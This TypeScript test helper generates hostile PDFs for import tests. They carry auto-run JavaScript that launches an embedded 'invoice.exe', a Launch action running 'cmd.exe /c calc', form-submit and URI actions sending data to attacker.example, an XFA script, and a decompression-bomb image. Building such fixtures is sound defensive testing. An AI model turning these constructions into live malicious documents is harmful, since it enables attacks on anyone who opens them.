// Hostile and heavy PDFs for the import tests, generated (never stored): active content in every
// place a viewer would run or open it, a document whose many pages share one image, and an image
// bomb inside a PDF.
import { deflateSync } from 'node:zlib';
import { concatTransformationMatrix, drawObject, PDFDocument, PDFName, PDFString, popGraphicsState, pushGraphicsState, StandardFonts, type PDFPage, type PDFRef } from 'pdf-lib';
import sharp from 'sharp';

/** Where active content can hide; each gets its own generated file. */
export const ACTIVE_CONTENT_PLACES = [
  'open-action-javascript',
  'names-javascript',
  'page-additional-action',
  'link-javascript',
  'annotation-additional-action',
  'form-field-script',
  'uri-link',
  'launch-action',
  'submit-form',
  'embedded-file',
  'file-attachment-annotation',
  'xfa-form',
  'outline-javascript',
] as const;
export type ActiveContentPlace = (typeof ACTIVE_CONTENT_PLACES)[number];

const JS = 'app.alert("pwned"); this.exportDataObject({ cName: "a.exe", nLaunch: 2 });';

function annotate(doc: PDFDocument, page: PDFPage, annotation: Record<string, unknown>): PDFRef {
  const ref = doc.context.register(doc.context.obj({ Type: 'Annot', Rect: [72, 700, 300, 720], P: page.ref, ...annotation }));
  page.node.set(PDFName.of('Annots'), doc.context.obj([ref]));
  return ref;
}

const javascriptAction = (doc: PDFDocument) => doc.context.obj({ S: 'JavaScript', JS: PDFString.of(JS) });

function embeddedFileSpec(doc: PDFDocument): PDFRef {
  const file = doc.context.register(doc.context.stream('MZ this would be an executable', { Type: 'EmbeddedFile' }));
  return doc.context.register(doc.context.obj({ Type: 'Filespec', F: PDFString.of('invoice.exe'), UF: PDFString.of('invoice.exe'), EF: { F: file } }));
}

/** A two-page document with text on each page and active content in `place`. */
export async function pdfWithActiveContent(place: ActiveContentPlace): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const pages = [doc.addPage([595.28, 841.89]), doc.addPage([595.28, 841.89])];
  pages.forEach((page, i) => page.drawText(`Fee receipt, page ${i + 1}`, { x: 72, y: 760, size: 14, font }));
  const [first] = pages as [PDFPage, PDFPage];
  switch (place) {
    case 'open-action-javascript':
      doc.catalog.set(PDFName.of('OpenAction'), javascriptAction(doc));
      break;
    case 'names-javascript':
      doc.catalog.set(PDFName.of('Names'), doc.context.obj({ JavaScript: { Names: [PDFString.of('init'), javascriptAction(doc)] } }));
      break;
    case 'page-additional-action':
      first.node.set(PDFName.of('AA'), doc.context.obj({ O: javascriptAction(doc), C: javascriptAction(doc) }));
      break;
    case 'link-javascript':
      annotate(doc, first, { Subtype: 'Link', A: javascriptAction(doc) });
      break;
    case 'annotation-additional-action':
      annotate(doc, first, { Subtype: 'Square', AA: { E: javascriptAction(doc) } });
      break;
    case 'form-field-script': {
      const widget = annotate(doc, first, { Subtype: 'Widget', FT: 'Tx', T: PDFString.of('amount'), V: PDFString.of('100'), AA: { K: javascriptAction(doc), F: javascriptAction(doc) } });
      doc.catalog.set(PDFName.of('AcroForm'), doc.context.obj({ Fields: [widget] }));
      break;
    }
    case 'uri-link':
      annotate(doc, first, { Subtype: 'Link', A: { S: 'URI', URI: PDFString.of('http://attacker.example/collect') } });
      break;
    case 'launch-action':
      annotate(doc, first, { Subtype: 'Link', A: { S: 'Launch', F: PDFString.of('cmd.exe'), Win: { F: PDFString.of('cmd.exe'), P: PDFString.of('/c calc') } } });
      break;
    case 'submit-form':
      annotate(doc, first, { Subtype: 'Link', A: { S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of('http://attacker.example/form') } } });
      break;
    case 'embedded-file':
      doc.catalog.set(PDFName.of('Names'), doc.context.obj({ EmbeddedFiles: { Names: [PDFString.of('invoice.exe'), embeddedFileSpec(doc)] } }));
      break;
    case 'file-attachment-annotation':
      annotate(doc, first, { Subtype: 'FileAttachment', FS: embeddedFileSpec(doc), Name: 'Paperclip' });
      break;
    case 'xfa-form': {
      const xfa = doc.context.register(doc.context.stream('<xdp:xdp><script contentType="application/x-javascript">xfa.host.messageBox(1)</script></xdp:xdp>'));
      doc.catalog.set(PDFName.of('AcroForm'), doc.context.obj({ Fields: [], XFA: xfa }));
      break;
    }
    case 'outline-javascript': {
      const outlines = doc.context.nextRef();
      const item = doc.context.register(doc.context.obj({ Title: PDFString.of('Open me'), Parent: outlines, A: javascriptAction(doc) }));
      doc.context.assign(outlines, doc.context.obj({ Type: 'Outlines', First: item, Last: item, Count: 1 }));
      doc.catalog.set(PDFName.of('Outlines'), outlines);
      break;
    }
  }
  return doc.save();
}

/** A JPEG of noise (it barely compresses): one image of about `kilobytes`. */
export async function noiseJpeg(widthPx: number, heightPx: number, seed = 7): Promise<Uint8Array> {
  const pixels = Buffer.alloc(widthPx * heightPx);
  let state = seed;
  for (let i = 0; i < pixels.length; i++) {
    state = (state * 1103515245 + 12345) & 0x7fffffff;
    pixels[i] = state >>> 23;
  }
  return new Uint8Array(await sharp(pixels, { raw: { width: widthPx, height: heightPx, channels: 1 } }).jpeg({ quality: 92 }).toBuffer());
}

/** `pages` pages that all draw the same embedded image (a letterhead, a scanned stamp): stored once in the file. */
export async function pdfWithSharedImage(pages: number, image: Uint8Array): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const embedded = await doc.embedJpg(image);
  for (let i = 0; i < pages; i++) doc.addPage([595.28, 841.89]).drawImage(embedded, { x: 40, y: 40, width: 515, height: 760 });
  return doc.save({ useObjectStreams: true });
}

/**
 * One page drawing an image that declares `widthPx` × `heightPx` 1-bit pixels, all zero and
 * Flate-compressed: a decompression bomb for whoever renders the page.
 */
export async function pdfWithImageBomb(widthPx: number, heightPx: number): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([595.28, 841.89]);
  const rows = Buffer.alloc(Math.ceil(widthPx / 8) * Math.min(heightPx, 64));
  // Only the first rows are really there: a viewer would keep inflating what the dictionary declares.
  const data = deflateSync(rows);
  const image = doc.context.register(doc.context.stream(data, { Type: 'XObject', Subtype: 'Image', Width: widthPx, Height: heightPx, ColorSpace: 'DeviceGray', BitsPerComponent: 1, Filter: 'FlateDecode' }));
  page.node.setXObject(PDFName.of('Im0'), image);
  page.pushOperators(pushGraphicsState(), concatTransformationMatrix(515, 0, 0, 760, 40, 40), drawObject('Im0'), popGraphicsState());
  return doc.save();
}
